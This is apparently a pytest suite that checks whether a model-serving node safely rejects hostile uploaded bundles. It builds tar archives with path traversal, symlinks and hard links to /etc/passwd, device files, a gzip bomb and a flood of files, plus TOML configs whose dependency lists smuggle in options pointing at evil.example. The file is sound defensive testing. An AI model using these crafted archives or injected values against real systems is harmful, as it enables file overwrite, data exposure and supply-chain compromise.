"""A bundle is hostile input: whatever is in it, nothing is written outside its place, and the node lives."""

import gzip
import io
import os
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.bounds import bound
from tests.harness.bundles import archive
from tests.harness.node import Node
from tests.harness.processes import resident_bytes

GOOD = {"model.toml": 'name = "@test/attack"\n', "model.py": "def handle_request(request, context):\n    return {}\n"}
NAME = "@test/attack"
MIB = 1024 * 1024


def with_member(entry: tarfile.TarInfo, data: bytes = b"") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as made:
        for name, content in GOOD.items():
            good = tarfile.TarInfo(name)
            good.size = len(content)
            made.addfile(good, io.BytesIO(content.encode()))
        entry.size = len(data)
        made.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", mode: int = 0o644) -> tarfile.TarInfo:
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname, entry.mode = kind, link, mode
    return entry


OUTSIDE = "/tmp/fornada-test-attack-outside"
MEMBERS: dict[str, Callable[[], bytes]] = {
    "parent": lambda: with_member(member("../outside"), b"x"),
    "deep parent": lambda: with_member(member("a/b/../../../outside"), b"x"),
    "absolute": lambda: with_member(member(OUTSIDE), b"x"),
    "symbolic link outside": lambda: with_member(member("link", tarfile.SYMTYPE, "/etc/passwd")),
    "symbolic link upwards": lambda: with_member(member("link", tarfile.SYMTYPE, "../../..")),
    "hard link outside": lambda: with_member(member("link", tarfile.LNKTYPE, "/etc/passwd")),
    "hard link upwards": lambda: with_member(member("link", tarfile.LNKTYPE, "../../store.sqlite")),
    "character device": lambda: with_member(member("null", tarfile.CHRTYPE)),
    "block device": lambda: with_member(member("disk", tarfile.BLKTYPE)),
    "fifo": lambda: with_member(member("pipe", tarfile.FIFOTYPE)),
    "NUL in a name": lambda: with_member(member("model\0.py"), b"x"),
    "backslashes": lambda: with_member(member("..\\..\\outside"), b"x"),
    "empty name": lambda: with_member(member(""), b"x"),
    "only a dot": lambda: with_member(member("."), b"x"),
    "a name of 5,000 characters": lambda: with_member(member("a" * 5000), b"x"),
    "a hundred folders deep": lambda: with_member(member("/".join(["d"] * 3000)), b"x"),
    "through a link": lambda: through_a_link(),
    "the same name twice": lambda: with_member(member("model.py"), b"raise SystemExit"),
    "a file where a folder is": lambda: with_member(member("model.py/inside"), b"x"),
}
MAY_PASS = {"backslashes", "NUL in a name", "the same name twice", "only a dot"}


def through_a_link() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as made:
        made.addfile(member("out", tarfile.SYMTYPE, "/tmp"))
        entry = member("out/fornada-test-attack-outside")
        entry.size = 1
        made.addfile(entry, io.BytesIO(b"x"))
    return out.getvalue()


def snapshot(node: Node) -> set[str]:
    """Everything in the data directory that a bundle could have added, outside the places that bundles live in."""
    kept = ("bundles", "environments", "logs", "scratch", "run", "cache", "store.sqlite")
    return {
        str(p.relative_to(node.data_dir))
        for p in node.data_dir.rglob("*")
        if p.relative_to(node.data_dir).parts[0] not in kept and not p.relative_to(node.data_dir).parts[0].startswith("store.sqlite")
    }


@pytest.mark.parametrize("what", MEMBERS)
def test_a_member_that_isn_t_a_plain_file_inside_is_refused(node: Node, what: str):
    before = snapshot(node)
    answer = node.put(NAME, MEMBERS[what]())
    if what not in MAY_PASS:
        assert answer.status == 400, (answer.status, answer.body)
        assert answer.message
        assert node.fetch("GET", f"/api/v1/models/{NAME}").status == 404, "nothing was registered"
    assert answer.status in (200, 400)
    assert snapshot(node) == before
    assert not os.path.lexists(OUTSIDE)
    for path in (node.data_dir / "bundles").rglob("*"):
        assert path.is_dir() or path.is_file(), f"{path} is no plain file"
        assert not path.is_symlink()
        assert not path.stat().st_mode & 0o6000, "no set-uid bits"


def bomb(size: int) -> bytes:
    """A small archive that unpacks to `size` bytes of zeros."""
    out = io.BytesIO()
    entry = tarfile.TarInfo("zeros")
    entry.size = size
    block = bytes(4 * MIB)
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9) as packed:
        packed.write(entry.tobuf())
        for _ in range(size // len(block)):
            packed.write(block)
        packed.write(bytes(1024))
    return out.getvalue()


def test_a_bomb_is_refused_before_it_fills_memory_or_disk(node: Node):
    packed = bomb(1024 * MIB)
    assert len(packed) < 2 * MIB
    memory = resident_bytes(node.control_pid)
    used = disk_used(node)
    began = time.monotonic()
    answer = node.put(NAME, packed)
    assert answer.status in (400, 413), answer.body
    assert time.monotonic() - began < bound(20)
    assert resident_bytes(node.control_pid) - memory < 200 * MIB
    assert disk_used(node) - used < 16 * MIB, "what was unpacked of it is gone"
    assert node.ready()


def disk_used(node: Node) -> int:
    return sum(p.stat().st_size for p in node.data_dir.rglob("*") if p.is_file() and not p.is_symlink())


def test_a_hundred_thousand_empty_files_are_refused(node: Node):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", compresslevel=1) as made:
        for number in range(100_000):
            made.addfile(member(f"d/{number}"))
    answer = node.put(NAME, out.getvalue())
    assert answer.status in (400, 413), answer.body
    assert node.ready()


BROKEN = {
    "empty": b"",
    "text": b"this is no archive",
    "a tar that isn't packed": b"".join([member("model.py").tobuf(), bytes(1024)]),
    "half a gzip": gzip.compress(bytes(range(256)) * 500)[:700],
    "gzip of garbage": gzip.compress(os.urandom(3000)),
    "a good one, cut off": archive(GOOD)[:-40],
    "an empty tar": archive({}),
    "a zip": b"PK\x03\x04" + bytes(100),
}


@pytest.mark.parametrize("what", BROKEN)
def test_what_is_no_archive_is_a_bad_request(node: Node, what: str):
    answer = node.put(NAME, BROKEN[what])
    assert answer.status == 400, (answer.status, answer.body)
    assert answer.message
    assert node.fetch("GET", f"/api/v1/models/{NAME}").status == 404


TOMLS: dict[str, str | bytes] = {
    "no TOML": "name = [",
    "no UTF-8": b"name = '\xff\xfe'",
    "unknown key": 'name = "x"\nconcurency = 2\n',
    "unknown key in a table": 'name = "x"\n[serving]\nconcurency = 2\n',
    "wrong type": 'name = "x"\n[serving]\nconcurrency = "many"\n',
    "zero": 'name = "x"\n[serving]\nconcurrency = 0\n',
    "negative": 'name = "x"\n[serving]\nqueue = -1\n',
    "infinite": 'name = "x"\n[serving]\ntimeout_s = inf\n',
    "nan": 'name = "x"\n[serving]\ntimeout_s = nan\n',
    "size": 'name = "x"\n[resources]\nmemory = "lots"\n',
    "entry outside": 'name = "x"\n[python]\nentry = "../../../etc/passwd"\n',
    "entry absolute": 'name = "x"\n[python]\nentry = "/etc/passwd"\n',
    "entry missing": 'name = "x"\n[python]\nentry = "other.py"\n',
    "artifact outside": 'name = "x"\n[[artifacts]]\npath = "../../x"\nsha256 = "' + "0" * 64 + '"\n',
    "artifact without a digest": 'name = "x"\n[[artifacts]]\npath = "x"\nsha256 = "abc"\n',
    "engine": 'name = "x"\nengine = "fortran"\n',
    "python that isn't here": 'name = "x"\n[python]\nversion = "3.2"\n',
    "schema outside": 'name = "x"\n[schema]\ninput = "../x.json"\n',
    "schema that is none": 'name = "x"\n[schema]\ninput = "model.py"\n',
    "a requirement with an option": 'name = "x"\n[python]\ndependencies = ["--index-url=http://evil.example"]\n',
    "a requirement by address": 'name = "x"\n[python]\ndependencies = ["evil @ file:///etc"]\n',
    "a requirement in two lines": 'name = "x"\n[python]\ndependencies = ["a==1\\n--index-url http://evil.example"]\n',
    "deep": "x = " + "[" * 5000 + "]" * 5000,
    "huge": "name = '" + "x" * 3_000_000 + "'",
}


@pytest.mark.parametrize("what", TOMLS)
def test_a_bad_model_toml_is_refused_in_one_line_that_says_where(node: Node, what: str):
    answer = node.put(NAME, archive({**GOOD, "model.toml": TOMLS[what]}))
    assert answer.status == 400, (answer.status, answer.body)
    assert answer.message and "\n" not in answer.message and "Traceback" not in answer.message
    assert len(answer.message) < 2000
    assert node.fetch("GET", f"/api/v1/models/{NAME}").status == 404
    assert node.alive()


@pytest.mark.parametrize("media_type", ["application/json", "text/html", "multipart/form-data; boundary=x"])
def test_a_wrong_media_type_is_refused_or_sniffed_never_trusted(node: Node, media_type: str):
    answer = node.put(NAME, archive(GOOD), headers={"content-type": media_type})
    assert answer.status in (200, 400, 415)
    answer = node.put(NAME, b'{"name": "x"}', headers={"content-type": media_type})
    assert answer.status in (400, 415), answer.body


def test_a_bundle_over_the_limit_is_refused_early_by_name_of_the_limit(node: Node):
    with node.connect() as connection:
        connection.send_request(
            "PUT", f"/api/v1/models/{NAME}", None, {"content-length": str(65 * MIB), "content-type": "application/gzip"}
        )
        answer = connection.read_response()
    assert (answer.status, answer.code) == (413, 3006)
    assert "64 MiB" in answer.message


def test_a_bundle_can_t_write_where_the_node_lives(node: Node, fresh_name):
    """Modes and owners of the archive don't count: files are plain and the node's own."""
    name = fresh_name()
    entry = member("script.sh", mode=0o6777)
    entry.uid = entry.gid = 12345
    node.deploy(name, with_member(entry, b"#!/bin/sh\n"))
    (stored,) = (node.data_dir / "bundles").rglob("script.sh")
    found = stored.stat()
    assert found.st_uid == os.geteuid() and not found.st_mode & 0o6022


def test_a_model_that_floods_its_log_fills_no_disk(node: Node, probe):
    model = probe()
    assert node.run(model, {"log_spam": 40}, timeout_s=60).status == 200
    assert sum(p.stat().st_size for p in Path(node.data_dir / "logs").rglob("*") if p.is_file()) < 80 * MIB
    assert node.ask(model, {"echo": 1})["echo"] == 1
